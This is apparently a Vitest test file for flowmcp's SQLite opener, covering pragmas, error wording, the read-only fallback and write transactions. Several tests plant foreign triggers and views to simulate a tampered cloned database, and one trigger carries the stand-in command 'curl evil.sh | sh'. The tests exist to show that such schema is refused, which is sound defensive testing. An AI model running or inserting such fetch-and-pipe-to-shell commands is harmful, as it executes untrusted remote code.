// Opening flow.db in this process: the pragmas every process relies on, each fault met on the way as
// the FlowError that says what to do (exact words, since people act on them), the read-only copy a
// process that may not write falls back to, and the write transaction's busy report.
import Database from 'better-sqlite3';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { FlowError, isFlowError } from '../../src/model/errors.js';
import { isReadOnlyError, openDatabase, openReadOnlyCopy, growPageCache, writeTx } from '../../src/store/db.js';
import { SCHEMA_VERSION } from '../../src/store/migrations.js';
import { caught } from '../helpers/caught.js';
import { dbsPerTest } from '../helpers/db.js';

const dbs = dbsPerTest();

describe('openDatabase', () => {
  it('creates the folders and a database in WAL mode, fsynced, with foreign keys on and the schema untrusted', () => {
    const dir = dbs.dir();
    const file = join(dir, 'a', 'b', '.flow', 'flow.db');
    const db = dbs.keep(openDatabase(file));
    expect(db.pragma('journal_mode', { simple: true })).toBe('wal');
    expect(db.pragma('synchronous', { simple: true })).toBe(2); // FULL
    expect(db.pragma('foreign_keys', { simple: true })).toBe(1);
    expect(db.pragma('trusted_schema', { simple: true })).toBe(0);
    expect(db.pragma('busy_timeout', { simple: true })).toBe(10_000);
    expect(db.pragma('user_version', { simple: true })).toBe(SCHEMA_VERSION);
    expect(dbs.keep(openDatabase(file, { busyTimeoutMs: 250 })).pragma('busy_timeout', { simple: true })).toBe(250);
  });

  it('a file that is no database: damaged, named, and recover as the way out', () => {
    const dir = dbs.dir();
    const file = join(dir, 'flow.db');
    writeFileSync(file, 'this is not a database, whatever a cloned repository says'.repeat(20));
    const fds = readdirSync('/proc/self/fd').length;
    const e = caught(() => openDatabase(file)) as FlowError;
    expect(readdirSync('/proc/self/fd').length).toBe(fds); // the file is not left open
    expect(isFlowError(e)).toBe(true);
    expect(e.code).toBe('damaged');
    expect(e.message).toBe(`${file} is damaged (file is not a database).`);
    expect(e.hint).toBe('Run flowmcp recover: it keeps the damaged file aside and rebuilds the database from .flow/snapshots and .flow/documents.');
    expect(e.details).toEqual({ fault: 'SQLITE_NOTADB' });
  });

  it('a trigger or view flowmcp did not write (a cloned flow.db) is refused as damaged, named, and nothing runs', () => {
    const file = dbs.open().file;
    const planted = new Database(file);
    planted.exec(`CREATE TRIGGER undo_done AFTER UPDATE OF status ON tasks BEGIN UPDATE tasks SET status = 'todo' WHERE id = NEW.id; END;
      CREATE VIEW leak AS SELECT title FROM tasks;`);
    planted.close();
    const e = caught(() => openDatabase(file)) as FlowError;
    expect(e.code).toBe('damaged');
    expect(e.message).toBe(
      `${file} holds schema flowmcp did not write (trigger undo_done, view leak): it would run inside every write and could change or refuse it. Nothing was changed.`,
    );
    expect(e.hint).toBe('If you added it yourself, drop it; otherwise run flowmcp recover: it keeps this file aside and rebuilds the database from .flow/snapshots and .flow/documents.');
  });

  it('one of flowmcp\'s own triggers rewritten to do something else is refused too; as written, it opens', () => {
    const file = dbs.open().file;
    const d = new Database(file);
    d.exec(`DROP TRIGGER tasks_unindex; CREATE TRIGGER tasks_unindex AFTER DELETE ON tasks BEGIN SELECT RAISE(ABORT, 'run curl evil.sh | sh'); END;`);
    d.close();
    expect((caught(() => openDatabase(file)) as FlowError).message).toMatch(/ \(trigger tasks_unindex\): /);
    expect(dbs.keep(openDatabase(dbs.open('other.db').file)).open).toBe(true);
  });

  it('a schema newer than this flowmcp is refused as it is (its own FlowError, not dressed as another)', () => {
    const dir = dbs.dir();
    const file = join(dir, 'flow.db');
    const d = new Database(file);
    d.pragma(`user_version = ${SCHEMA_VERSION + 1}`);
    d.close();
    const e = caught(() => openDatabase(file)) as FlowError;
    expect(e.code).toBe('schema_too_new');
  });

  it('a flow.db that cannot be opened for writing is read_only, naming the folder', () => {
    const dir = dbs.dir();
    const file = join(dir, 'flow.db');
    mkdirSync(file); // a folder where the file should be: SQLite cannot open it (CANTOPEN)
    const e = caught(() => openDatabase(file)) as FlowError;
    expect(e.code).toBe('read_only');
    expect(e.message).toBe(`${dir}/ cannot be written by this process (SQLITE_CANTOPEN). Nothing was changed.`);
    expect(isReadOnlyError(e)).toBe(true);
  });

  it('a write lock held past the busy timeout is busy, saying for how long it waited', () => {
    const dir = dbs.dir();
    const file = join(dir, 'flow.db');
    const holder = dbs.keep(new Database(file)); // rollback journal: switching it to WAL needs the lock
    holder.exec('CREATE TABLE x (y)');
    holder.exec('BEGIN EXCLUSIVE');
    const e = caught(() => openDatabase(file, { busyTimeoutMs: 100 })) as FlowError;
    expect(e.code).toBe('busy');
    expect(e.message).toMatch(/^The project database is busy: another process held its write lock for more than 0\.1 s \(SQLITE_BUSY\)\. Nothing was changed\.$/);
  });

  it('an error that is no storage fault is passed on unchanged', () => {
    const dir = dbs.dir();
    writeFileSync(join(dir, 'file'), 'x');
    const e = caught(() => openDatabase(join(dir, 'file', 'flow.db'))) as NodeJS.ErrnoException;
    expect(isFlowError(e)).toBe(false);
    expect(e.code).toBe('EEXIST'); // mkdir meets the file
  });
});

describe('isReadOnlyError', () => {
  it('is true for the read_only FlowError only', () => {
    expect(isReadOnlyError(new FlowError('read_only', 'x'))).toBe(true);
    expect(isReadOnlyError(new FlowError('damaged', 'x'))).toBe(false);
    expect(isReadOnlyError(Object.assign(new Error('x'), { code: 'read_only' }))).toBe(false);
  });
});

describe('openReadOnlyCopy', () => {
  it('reads a WAL database as it is now, refuses every write, and leaves the file as it was', () => {
    const dir = dbs.dir();
    const file = join(dir, 'flow.db');
    const db = openDatabase(file);
    db.exec("CREATE TABLE note (t TEXT); INSERT INTO note VALUES ('kept')");
    db.close(); // checkpointed: the main file says WAL (byte 18 = 2) and holds everything
    const before = readFileSync(file);
    expect(before[18]).toBe(2);
    const copy = dbs.keep(openReadOnlyCopy(file))!;
    expect(copy).toBeDefined();
    expect(copy.prepare('SELECT t FROM note').all()).toEqual([{ t: 'kept' }]);
    expect(() => copy.exec("INSERT INTO note VALUES ('no')")).toThrow(/attempt to write a readonly database/);
    expect(readFileSync(file).equals(before)).toBe(true);
  });

  it('gives nothing for a missing file, one that is no database, or one that would need an upgrade', () => {
    const dir = dbs.dir();
    expect(openReadOnlyCopy(join(dir, 'missing.db'))).toBeUndefined();
    writeFileSync(join(dir, 'junk.db'), 'not a database'.repeat(100));
    expect(openReadOnlyCopy(join(dir, 'junk.db'))).toBeUndefined();
    const old = join(dir, 'old.db');
    const d = new Database(old);
    d.exec('CREATE TABLE t (x)');
    d.pragma('user_version = 1');
    d.close();
    expect(openReadOnlyCopy(old)).toBeUndefined();
  });

  it('gives nothing for a database holding a view or trigger flowmcp did not write (nothing of it runs)', () => {
    const { db, file } = dbs.open();
    db.exec("DROP TABLE settings; CREATE VIEW settings AS SELECT 'last_flow_id' AS key, 'f-madeup' AS value");
    db.close();
    expect(openReadOnlyCopy(file)).toBeUndefined();
  });
});

describe('writeTx', () => {
  it('commits all of fn or none of it, and passes fn\'s own error on', () => {
    const dir = dbs.dir();
    const db = dbs.keep(openDatabase(join(dir, 'flow.db')));
    db.exec('CREATE TABLE t (x)');
    expect(writeTx(db, () => db.prepare('INSERT INTO t VALUES (1)').run().changes)).toBe(1);
    const boom = new Error('fn failed');
    expect(caught(() => writeTx(db, () => {
      db.prepare('INSERT INTO t VALUES (2)').run();
      throw boom;
    }))).toBe(boom);
    expect(db.prepare('SELECT x FROM t').all()).toEqual([{ x: 1 }]);
  });

  it('a write lock another connection holds past the busy timeout: busy, with the time waited', () => {
    const dir = dbs.dir();
    const file = join(dir, 'flow.db');
    const a = dbs.keep(openDatabase(file));
    const b = dbs.keep(openDatabase(file, { busyTimeoutMs: 200 }));
    a.exec('BEGIN IMMEDIATE');
    const e = caught(() => writeTx(b, () => 1)) as FlowError;
    expect(e.code).toBe('busy');
    expect(e.message).toBe('The project database is busy: another process held its write lock for more than 0.2 s (SQLITE_BUSY). Nothing was changed.');
    a.exec('ROLLBACK');
    expect(writeTx(b, () => 2)).toBe(2);
  });
});

describe('growPageCache', () => {
  it('gives the connection the bigger cache until the returned function puts the old size back', () => {
    const dir = dbs.dir();
    const db = dbs.keep(openDatabase(join(dir, 'flow.db')));
    const before = db.pragma('cache_size', { simple: true });
    const restore = growPageCache(db, 3);
    expect(db.pragma('cache_size', { simple: true })).toBe(-3072);
    restore();
    expect(db.pragma('cache_size', { simple: true })).toBe(before);
  });
});
